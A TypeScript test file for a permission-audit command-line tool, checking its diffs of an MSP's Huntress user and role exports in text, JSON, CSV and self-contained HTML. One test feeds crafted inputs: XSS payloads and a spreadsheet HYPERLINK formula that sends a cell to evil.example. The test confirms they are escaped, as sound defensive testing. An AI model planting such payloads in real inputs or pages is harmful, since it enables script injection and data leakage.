// `permaudit diff` and `permaudit diff-model` as a user runs them: Northwind MSP's November export
// against its December one (resources/samples/README.md lists what changed), and Huntress's model
// before and after June 2022.
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { prepareCli, root, runCli } from '../support/cli';
import { beforeAll, describe, expect, it } from 'vitest';

const samples = path.join(root, 'resources/samples');
let dir: string;
let db: string;

const run = (...args: string[]) => runCli(dir, ...args);

/** What a reader of an HTML page sees: its text without the markup, entities read, spaces collapsed. */
const textOf = (page: string) =>
  page
    .replace(/<style>[\s\S]*?<\/style>/, '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&(lt|gt|quot|#39|amp);/g, (_, e: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[e]!)
    .replace(/\s+/g, ' ');

/** A one-file report: nothing runs and nothing is fetched, whatever the data. */
function expectSelfContained(page: string) {
  expect(page.startsWith('<!doctype html>')).toBe(true);
  const tags = page.match(/<[^>]*>/g) ?? [];
  expect(
    tags.filter((tag) => /^<\/?(script|link|img|iframe|a|object|embed|form|base)\b/i.test(tag) || /\s(src|href|on\w+)=/i.test(tag)),
  ).toEqual([]);
  expect(page).not.toMatch(/url\(|@import/i);
  expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
}

beforeAll(() => {
  dir = prepareCli('permaudit-diff-');
  db = path.join(dir, 'audit.db');
  for (const [file, platform] of [
    ['huntress-msp.csv', 'huntress'],
    ['huntress-msp-december.csv', 'huntress'],
    ['hexiosec-asm.csv', 'hexiosec-asm'],
  ]) {
    expect(run('import', path.join(samples, file), '--platform', platform, '--db', db).code).toBe(0);
  }
});

describe('permaudit diff', () => {
  it('reads like a plan: people, assignments, then access grouped by person, privileged first, the summary last', () => {
    const { code, stdout, stderr } = run('diff', '1', '2', '--db', db);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toContain('  - marcus.webb@northwind-msp.example\n');
    expect(stdout).toContain('  + samuel.ortiz@northwind-msp.example\n');
    expect(stdout).toContain('  ~ daniel.okonkwo@northwind-msp.example: mfa disabled → enabled\n');
    expect(stdout).toMatch(/\+ priya\.raman@coastal-it\.example: Admin · organization @\s+Northwind MSP\/Harbor Law Group/);
    // The swap at Bayside Dental (Admin → User) loses what only Admin grants, and keeps View Reports.
    const tomas = stdout.slice(stdout.indexOf('~ tomas.herrera@northwind-msp.example (Tomás Herrera)'));
    expect(tomas).toContain('- Approve Assisted Remediation');
    expect(tomas.split('\n\n')[0]).not.toContain('View Reports');
    // The offboarded account Admin's losses: privileged ones first.
    const marcus = stdout.slice(stdout.indexOf('- marcus.webb@northwind-msp.example (Marcus Webb)')).split('\n\n')[0].split('\n');
    expect(marcus[1]).toMatch(/^ {4}all at Northwind MSP and below, via Admin · account/);
    const losses = marcus.filter((line) => line.startsWith('    - '));
    const privileged = losses.filter((line) => line.endsWith('[privileged]'));
    expect(privileged.length).toBeGreaterThan(0);
    expect(losses.slice(0, privileged.length)).toEqual(privileged);
    expect(stdout.trimEnd().split('\n').at(-1)).toMatch(/^Summary: 2 people gain \d+ grants, 4 lose \d+; 1 added, 2 removed\.$/);
    // Nothing a person reads is cut at 80 columns.
    for (const line of stdout.split('\n')) expect(line.length, line).toBeLessThanOrEqual(80);
  });

  it('gives JSON with provenance of both snapshots, and the same changes as the text', () => {
    const { code, stdout } = run('diff', '1', '2', '--db', db, '--json');
    expect(code).toBe(0);
    const diff = JSON.parse(stdout);
    expect(diff.users.removed).toEqual(['gregor.steiner@ironbridge-mfg.example', 'marcus.webb@northwind-msp.example']);
    expect(diff.provenance.snapshots.map((s: { snapshot: { id: number } }) => s.snapshot.id)).toEqual([1, 2]);
    expect(diff.provenance.snapshots[1].sourceFiles[0]).toMatchObject({
      name: 'huntress-msp-december.csv',
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    const priya = diff.access.filter((c: { email: string }) => c.email === 'priya.raman@coastal-it.example');
    expect(priya.length).toBeGreaterThan(0);
    for (const c of priya) {
      expect(c).toMatchObject({ change: 'gained', scope: 'Northwind MSP/Harbor Law Group', extent: 'here' });
      expect(c.via).toMatchObject({
        role: 'Admin · organization',
        assignedAt: 'Northwind MSP/Harbor Law Group',
        sourceFile: 'huntress-msp-december.csv',
      });
    }
    const text = run('diff', '1', '2', '--db', db).stdout;
    expect(text).toContain(`Summary: ${diff.summary}.`);
  });

  it('--privileged keeps the privileged changes only', () => {
    const all = JSON.parse(run('diff', '1', '2', '--db', db, '--json').stdout);
    const only = JSON.parse(run('diff', '1', '2', '--db', db, '--json', '--privileged').stdout);
    expect(only.access).toEqual(all.access.filter((c: { privileged: boolean }) => c.privileged));
    expect(only.access.length).toBeGreaterThan(0);
    expect(only.provenance.question.filters).toEqual({ privileged: true });
  });

  it('writes one CSV row per change, and no cell a spreadsheet would run', () => {
    const { code, stdout } = run('diff', '1', '2', '--db', db, '--format', 'csv');
    expect(code).toBe(0);
    const rows = Papa.parse<Record<string, string>>(stdout, { header: true, skipEmptyLines: true }).data;
    const json = JSON.parse(run('diff', '1', '2', '--db', db, '--json').stdout);
    expect(rows.filter((r) => r.kind === 'access')).toHaveLength(json.access.length);
    expect(rows.filter((r) => r.kind === 'assignment')).toHaveLength(json.assignments.added.length + json.assignments.removed.length);
    expect(
      rows.find((r) => r.kind === 'person' && r.change === 'changed' && r.email === 'daniel.okonkwo@northwind-msp.example')?.detail,
    ).toBe('mfa: disabled → enabled');
    expect(rows.filter((r) => Object.values(r).some((v) => /^[=+\-@\t\r]/.test(v)))).toEqual([]);
  });

  it('--format html: one self-contained page with where it comes from, the summary, privileged changes first, then each person', () => {
    const { code, stdout, stderr } = run('diff', '1', '2', '--db', db, '--format', 'html');
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expectSelfContained(stdout);
    const json = JSON.parse(run('diff', '1', '2', '--db', db, '--json').stdout);
    const text = textOf(stdout);
    expect(text).toContain('Changes in Huntress: snapshot #1 → #2');
    expect(text).toContain(`${json.summary[0].toUpperCase()}${json.summary.slice(1)}.`);
    // Provenance: both snapshots, their models and files with SHA-256, the filters, the tool.
    for (const { snapshot, sourceFiles } of json.provenance.snapshots) {
      expect(text).toContain(`#${snapshot.id} “${snapshot.name}”`);
      expect(text).toContain(`Huntress, version ${snapshot.modelVersion} (built in)`);
      expect(text).toContain(`${sourceFiles[0].name} (${sourceFiles[0].rows} rows) SHA-256 ${sourceFiles[0].sha256}`);
    }
    expect(text).toMatch(
      /Filters: none \(every change\) · Generated \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC by Permission Auditor \d+\.\d+\.\d+/,
    );

    // The privileged changes come first, each with its person; then everyone's, by person.
    const privileged = text.slice(text.indexOf('Privileged changes'), text.indexOf('Access changes by person'));
    const firstPrivileged = json.access.find((c: { privileged: boolean }) => c.privileged);
    expect(privileged).toContain(`${firstPrivileged.email}`);
    expect(privileged.match(/ privileged /g)).toHaveLength(json.access.filter((c: { privileged: boolean }) => c.privileged).length);
    const byPerson = text.slice(text.indexOf('Access changes by person'), text.indexOf(' People '));
    // Priya gains through one assignment: it is said once, above her gains.
    const priya = json.access.filter((c: { email: string }) => c.email === 'priya.raman@coastal-it.example');
    expect(byPerson).toContain(
      `~ priya.raman@coastal-it.example (Priya Raman) gains ${priya.length} all at Northwind MSP/Harbor Law Group · via Admin · organization (row huntress-msp-december.csv:${priya[0].via.sourceLine}) + ${priya[0].label}`,
    );
    expect(byPerson).toContain('− marcus.webb@northwind-msp.example (Marcus Webb) removed loses');
    // Every change is there once by person, and the privileged ones once more at the top.
    const lines = stdout.match(/<li class="(gained|lost)">/g) ?? [];
    expect(lines).toHaveLength(json.access.length + json.access.filter((c: { privileged: boolean }) => c.privileged).length);

    // People and assignments.
    const rest = text.slice(text.indexOf(' People '));
    expect(rest).toContain('+ samuel.ortiz@northwind-msp.example added');
    expect(rest).toContain('− marcus.webb@northwind-msp.example removed');
    expect(rest).toContain('~ daniel.okonkwo@northwind-msp.example (Daniel Okonkwo) MFA disabled → enabled');
    expect(rest).toMatch(/\+ priya\.raman@coastal-it\.example \(Priya Raman\) Admin · organization Northwind MSP\/Harbor Law Group/);
  });

  it('--format html with --privileged shows the privileged changes only, and says so', () => {
    const page = run('diff', '1', '2', '--db', db, '--format', 'html', '--privileged').stdout;
    const only = JSON.parse(run('diff', '1', '2', '--db', db, '--json', '--privileged').stdout);
    const text = textOf(page);
    expect(text).toContain('Filters: privileged permissions only');
    expect(text).toContain('Access changes, privileged permissions only, by person');
    expect(text).not.toContain('Privileged changes');
    expect(page.match(/<li class="(gained|lost)">/g)).toHaveLength(only.access.length);
    expect(page.match(/<span class="tag priv">privileged<\/span>/g)).toHaveLength(only.access.length);
  });

  it("--format html names a user's model file and its SHA-256 in the provenance", () => {
    const acme = path.join(dir, 'acme.db');
    const model = path.join(root, 'resources/models/acme-edr.json');
    for (const extra of [[], ['--allow-duplicate']]) {
      expect(run('import', path.join(samples, 'acme-edr.csv'), '--model', model, '--db', acme, ...extra).code).toBe(0);
    }
    const [, after] = JSON.parse(run('diff', '1', '2', '--db', acme, '--json').stdout).provenance.snapshots;
    const text = textOf(run('diff', '1', '2', '--db', acme, '--format', 'html').stdout);
    expect(text).toContain(`Acme EDR, version 2026-06 (your model file acme-edr.json) SHA-256 ${after.snapshot.model.sha256}`);
  });

  it('--format html writes what the data says as text: a name that is markup or a formula stays inert', () => {
    const header = 'email,name,role,account,organization';
    const before = path.join(dir, 'crafted-before.csv');
    const after = path.join(dir, 'crafted-after.csv');
    fs.writeFileSync(before, `${header}\nann@x.example,Ann,User,Acme <b>MSP</b>,Org & Co\n`);
    fs.writeFileSync(
      after,
      `${header}\nann@x.example,Ann,Admin,Acme <b>MSP</b>,Org & Co\n` +
        `eve@x.example,<img src=x onerror=alert(1)>,Admin,Acme <b>MSP</b>,\n` +
        `mal@x.example,"=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")",User,Acme <b>MSP</b>,"<script>alert('x')</script>"\n`,
    );
    const crafted = path.join(dir, 'crafted.db');
    for (const file of [before, after]) expect(run('import', file, '--platform', 'huntress', '--db', crafted).code).toBe(0);
    const { code, stdout } = run('diff', '1', '2', '--db', crafted, '--format', 'html');
    expect(code).toBe(0);
    expectSelfContained(stdout);
    expect(stdout).toContain('&lt;img src=x onerror=alert(1)&gt;');
    // (A path writes a `/` inside a name as `\/`.)
    expect(stdout).toContain('&lt;script&gt;alert(&#39;x&#39;)&lt;\\/script&gt;');
    expect(stdout).toContain('Acme &lt;b&gt;MSP&lt;\\/b&gt;/Org &amp; Co');
    const text = textOf(stdout);
    expect(text).toContain('+ eve@x.example (<img src=x onerror=alert(1)>) new person');
    expect(text).toContain('+ mal@x.example (=HYPERLINK("https://evil.example/?q="&A1,"Click")) new person');
    expect(text).toContain("at Acme <b>MSP<\\/b>/<script>alert('x')<\\/script>");
  });

  it('refuses snapshots of two platforms (exit 1) and an id that is not one (exit 2)', () => {
    const platforms = run('diff', '1', '3', '--db', db);
    expect(platforms.code).toBe(1);
    expect(platforms.stderr).toContain('snapshot #1 is Huntress and #3 is Hexiosec ASM: a diff compares two snapshots of one platform');
    const usage = run('diff', '1', 'latest', '--db', db);
    expect(usage.code).toBe(2);
    expect(usage.stderr).toContain('SNAPSHOT_B must be a whole number');
  });
});

describe('permaudit diff-model', () => {
  it('Huntress before and after June 2022: organization Admin gains Approve Assisted Remediation; Finance and Marketing are added', () => {
    const { code, stdout } = run('diff-model', 'huntress', '--from', '2022-01-01', '--to', '2022-07-01');
    expect(code).toBe(0);
    expect(stdout).toContain('Huntress: model version pre-2022-06 → 2022-06, in force from 2022-06-01');
    expect(stdout).toContain('~ Admin · organization (changed)\n    + Approve Assisted Remediation\n');
    expect(stdout).toContain('+ Finance (added)');
    expect(stdout).toContain('+ Marketing (added)');
    expect(stdout).toContain('    + Update Payment Info  [privileged]');
  });

  it('with a database, lists whom the change affects in the newest snapshot, with the assignment behind each gain', () => {
    const json = JSON.parse(run('diff-model', 'huntress', '--from', '2022-01-01', '--db', db, '--snapshot', '1', '--json').stdout);
    expect(json.roles.map((r: { role: string; status: string }) => `${r.role} ${r.status}`)).toEqual([
      'account-finance added',
      'account-marketing added',
      'org-admin changed',
    ]);
    expect(json.snapshot.id).toBe(1);
    const priya = json.users.find((u: { email: string }) => u.email === 'priya.raman@coastal-it.example');
    expect(priya.lost).toEqual([]);
    expect(priya.gained.map((g: { label: string; scope: string }) => `${g.label} @ ${g.scope}`).sort()).toEqual(
      [
        'Northwind MSP/Bayside Dental',
        'Northwind MSP/Crescent City Chiropractic',
        'Northwind MSP/Elmstead Orthodontics',
        'Northwind MSP/Rosewood Dental Arts',
        'Northwind MSP/Sunnyside Pediatrics',
      ].map((path) => `Approve Assisted Remediation @ ${path}`),
    );
    expect(json.impactSummary).toMatch(/^\d+ people gain \d+ grants, nobody loses any$/);
  });

  it('says which snapshot a --db without --snapshot used: the newest of the platform', () => {
    const { stdout } = run('diff-model', 'huntress', '--from', '2022-01-01', '--db', db);
    expect(stdout).toContain('Whom it affects in snapshot #2');
  });
});
